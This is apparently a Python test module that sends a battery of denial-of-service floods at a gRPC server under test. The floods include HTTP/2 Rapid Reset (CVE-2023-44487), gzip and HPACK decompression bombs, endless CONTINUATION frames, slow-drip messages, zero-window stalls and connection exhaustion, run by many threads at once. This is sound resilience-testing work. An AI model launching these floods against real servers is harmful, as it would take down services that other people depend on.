"""What attackers do to a server, without a credential unless it is said: one function each.

An attacker goes on until it is told to stop. Whatever the server does to its connection
is right: it begins again.
"""

from __future__ import annotations

import contextlib
import gzip
import socket
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import grpc
from tests.hostile import frames
from tests.hostile.frames import connection, frame, in_data, message, opening

WATCH_REVOCATIONS = "/finlink.config.v1.SessionService/WatchRevocations"
KEYS = "/finlink.config.v1.SessionService/ListSigningKeys"
LOGIN = "/finlink.config.v1.SessionService/StartSession"
SIGN_IN = "/finlink.config.v1.AccountService/SignIn"
VALIDATE = "/finlink.config.v1.SessionService/ValidateSession"
CHECK = "/grpc.health.v1.Health/Check"
WATCH = "/grpc.health.v1.Health/Watch"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
LARGEST = 4 * 1024 * 1024
HELLO = frames.PREFACE + frames.settings()
_PATIENCE = 60  # seconds
_A_WHILE = 0.2  # seconds between what an attacker does over and over

# At once. With many more, grpc itself turns away calls of this one method: its queue of those
# that nobody has looked at yet has an end.
_RESETS = 5

Attack = Callable[["Attacker"], None]


@dataclass
class Attacker:
    """One of many who do the same."""

    target: str
    credential: str
    over: threading.Event
    began: threading.Semaphore
    rounds: int = 0

    def run(self, attack: Attack) -> None:
        while not self.over.is_set():
            with contextlib.suppress(OSError, grpc.RpcError):
                attack(self)
            self._count()
            self.over.wait(_A_WHILE)

    def hold(self, wire: socket.socket) -> None:
        """Keep a connection until the server closes it, or the attack is over."""
        self._count()
        wire.settimeout(_A_WHILE)
        while not self.over.is_set():
            with contextlib.suppress(TimeoutError):
                if not wire.recv(65_536):
                    return

    def repeat(self, wire: socket.socket, burst: bytes) -> None:
        """Send the same for ever, as fast as the server takes it, and read what comes."""
        wire.settimeout(_A_WHILE)
        while not self.over.is_set():
            with contextlib.suppress(TimeoutError):
                wire.sendall(burst)
            self._count()
            with contextlib.suppress(TimeoutError, BlockingIOError):
                wire.recv(1 << 20, socket.MSG_DONTWAIT)
            self.over.wait(_A_WHILE / 4)

    def _count(self) -> None:
        self.rounds += 1
        if self.rounds == 1:
            self.began.release()


def silence(*wire: bytes) -> Attack:
    """Say this much, and no more."""

    def attack(me: Attacker) -> None:
        with connection(me.target) as made:
            made.sendall(b"".join(wire))
            me.hold(made)

    return attack


def repetition(*wire: bytes, burst: bytes) -> Attack:
    """Say this, and then one thing for ever."""

    def attack(me: Attacker) -> None:
        with connection(me.target) as made:
            made.sendall(b"".join(wire))
            me.repeat(made, burst)

    return attack


def opened(*paths: str, then: bytes = b"", first: bytes = HELLO) -> Attack:
    """Open a call of each, and say this in each."""

    def attack(me: Attacker) -> None:
        bearer = (("authorization", f"Bearer {me.credential}"),) if me.credential else ()
        with connection(me.target) as made:
            made.sendall(first)
            for number, path in enumerate(paths):
                stream = 2 * number + 1
                made.sendall(opening(stream, path, *bearer))
                if then:
                    made.sendall(in_data(stream, then))
            me.hold(made)

    return attack


def dripping(path: str) -> Attack:
    """Send a message so slowly that it never ends."""

    def attack(me: Attacker) -> None:
        with connection(me.target) as made:
            made.sendall(HELLO + opening(1, path) + in_data(1, message(b"", announced=10_000)))
            me.repeat(made, in_data(1, b"\n"))

    return attack


def sent(*sizes: int) -> Attack:
    """Send messages of these sizes, as a good client sends them."""

    def attack(me: Attacker) -> None:
        with grpc.insecure_channel(me.target, (("grpc.use_local_subchannel_pool", 1),)) as channel:
            for size in sizes:
                for path in (LOGIN, SIGN_IN, VALIDATE):
                    call: Any = channel.unary_unary(path)
                    if not me.over.is_set():
                        with contextlib.suppress(grpc.RpcError):
                            call(b"\n" * size, timeout=5)

    return attack


def unread(*paths: str, calls: int = 1) -> Attack:
    """Make calls, and take no byte of their answers."""
    first = frames.PREFACE + frames.settings((frames.INITIAL_WINDOW_SIZE, 0))

    def attack(me: Attacker) -> None:
        bearer = (("authorization", f"Bearer {me.credential}"),) if me.credential else ()
        with connection(me.target) as made:
            made.sendall(first)
            for number in range(calls):
                stream = 2 * number + 1
                asked = _QUESTION if paths[number % len(paths)] == REFLECTION else b""
                made.sendall(
                    opening(stream, paths[number % len(paths)], *bearer)
                    + in_data(stream, message(asked))
                )
            me.hold(made)

    return attack


def reset_at_once(path: str) -> Attack:
    """Open calls and take them back before anybody can look at them (CVE-2023-44487)."""

    def attack(me: Attacker) -> None:
        with connection(me.target) as made:
            made.sendall(HELLO)
            made.settimeout(_A_WHILE)
            for start in range(1, 2**31 - 2000, 2 * _RESETS):
                if me.over.is_set():
                    return
                made.sendall(
                    b"".join(
                        opening(stream, path) + frame(frames.RST_STREAM, 0, stream, frames.CANCEL)
                        for stream in range(start, start + 2 * _RESETS, 2)
                    )
                )
                me._count()
                with contextlib.suppress(TimeoutError, BlockingIOError):
                    made.recv(1 << 20, socket.MSG_DONTWAIT)
                me.over.wait(_A_WHILE / 4)

    return attack


# For reflection: file_containing_symbol, whose answer is some kB.
_QUESTION = b"\x22\x20finlink.config.v1.AccountService"
# 48 MiB of line feeds, which fit into the window that a connection has from the start.
_BOMB = gzip.compress(b"\n" * (48 << 20))
_MANY = b"".join(frames.field(f"x-{number}", b"1") for number in range(3000))
_LARGE = frames.field("x-large", b"1" * 12_000)
_REMEMBERED = frames.call_fields(KEYS) + frames.field("x-large", b"1" * 4000, remember=True)


def _bomb(path: str) -> bytes:
    return opening(1, path, ("grpc-encoding", "gzip")) + in_data(
        1, b"\1" + message(_BOMB)[1:], last=True
    )


def _cut_up(block: bytes, *, end: bool) -> bytes:
    """A block of header fields in frames, the last of which says so or not."""
    parts = [block[start : start + 16_000] for start in range(0, len(block), 16_000)]
    kinds = [frames.HEADERS] + [frames.CONTINUATION] * (len(parts) - 1)
    flags = [0] * (len(parts) - 1) + [frames.END_HEADERS if end else 0]
    return b"".join(
        frame(kind, flag, 1, part) for kind, flag, part in zip(kinds, flags, parts, strict=True)
    )


OPEN = (KEYS, LOGIN, SIGN_IN, CHECK)
FLOODS: dict[str, Attack] = {
    "idle connections": silence(),
    "half a preface": silence(frames.PREFACE[:11]),
    "connections that greet": silence(HELLO),
    "another protocol": silence(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n"),
    "garbage after the greeting": silence(HELLO, bytes(range(256)) * 40),
    "frames of no kind": repetition(HELLO, burst=frame(0xFA, 0xFF, 1, b"?" * 100) * 500),
    "PINGs": repetition(HELLO, burst=frame(frames.PING, payload=b"12345678") * 500),
    "SETTINGS": repetition(HELLO, burst=frames.settings((frames.INITIAL_WINDOW_SIZE, 9)) * 500),
    "WINDOW_UPDATEs": repetition(
        HELLO, burst=frame(frames.WINDOW_UPDATE, payload=b"\0\0\0\1") * 500
    ),
    "empty DATA": repetition(HELLO, opening(1, LOGIN), burst=frame(frames.DATA, 0, 1) * 500),
    "calls taken back at once": reset_at_once(LOGIN),
    "calls without a message": opened(*OPEN, WATCH, VALIDATE),
    "half a message": opened(*OPEN, WATCH, then=message(b"\n" * 50, announced=1000)),
    "a message of 4 GB announced": opened(*OPEN, then=message(b"\n", announced=2**32 - 1)),
    "a message that drips": dripping(LOGIN),
    "calls that never end": opened(*OPEN, then=message(b"")),
    "largest messages": sent(LARGEST - 100, LARGEST + 1),
    "messages that unpack to 48 MiB": silence(HELLO, _bomb(LOGIN)),
    "large metadata": silence(HELLO, _cut_up(frames.call_fields(KEYS) + _LARGE * 20, end=True)),
    "many metadata": silence(HELLO, _cut_up(frames.call_fields(KEYS) + _MANY, end=True)),
    "metadata that unpack to 60 MB": silence(
        HELLO, _cut_up(_REMEMBERED + b"\xbe" * 15_000, end=True)
    ),
    "metadata without an end": repetition(
        HELLO + _cut_up(frames.call_fields(KEYS), end=False),
        burst=frame(frames.CONTINUATION, 0, 1, _LARGE) * 20,
    ),
    "open Watch of health": opened(WATCH, then=message(b"")),
    "open reflection": opened(REFLECTION, then=message(_QUESTION)),
    "silent reflection": opened(REFLECTION),
    "unread answers": unread(*OPEN, calls=40),
    "unread Watch of health": unread(WATCH, calls=4),
    "unread reflection": unread(REFLECTION, calls=4),
}
# Of somebody with a service key.
FLOODS_WITH_A_CREDENTIAL: dict[str, Attack] = {
    "open WatchRevocations": opened(WATCH_REVOCATIONS, then=message(b"")),
    "unread WatchRevocations": unread(WATCH_REVOCATIONS),
}


@contextlib.contextmanager
def raging(attack: Attack, target: str, attackers: int, credential: str = "") -> Iterator[None]:
    """Let so many attack at once, from when each has begun until the block ends."""
    over, began = threading.Event(), threading.Semaphore(0)
    horde = [Attacker(target, credential, over, began) for _ in range(attackers)]
    threads = [threading.Thread(target=one.run, args=(attack,)) for one in horde]
    for thread in threads:
        thread.start()
    try:
        for _ in threads:
            assert began.acquire(timeout=_PATIENCE), "an attacker does not get to it"
        yield
    finally:
        over.set()
        for thread in threads:
            thread.join(_PATIENCE)
            assert not thread.is_alive()
